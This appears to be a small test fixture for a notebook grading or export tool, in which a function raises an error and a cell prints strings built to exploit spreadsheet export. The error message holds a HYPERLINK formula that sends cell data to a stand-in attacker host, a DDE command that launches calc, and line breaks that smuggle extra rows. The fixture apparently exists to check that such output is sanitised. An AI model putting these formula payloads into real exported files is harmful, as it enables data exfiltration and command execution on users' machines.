# %% answer="double"
def double(x):
    raise ValueError('=HYPERLINK("http://attacker.test/?"&A1,"2.0")\t=cmd|" /C calc"!A0\r\n@SUM(1+1)')


# %% extra after="double"
print("=1+1,2.0,2.0\r\nada,attacked,0,0,0,0\n-2+3\n+1\n@x")
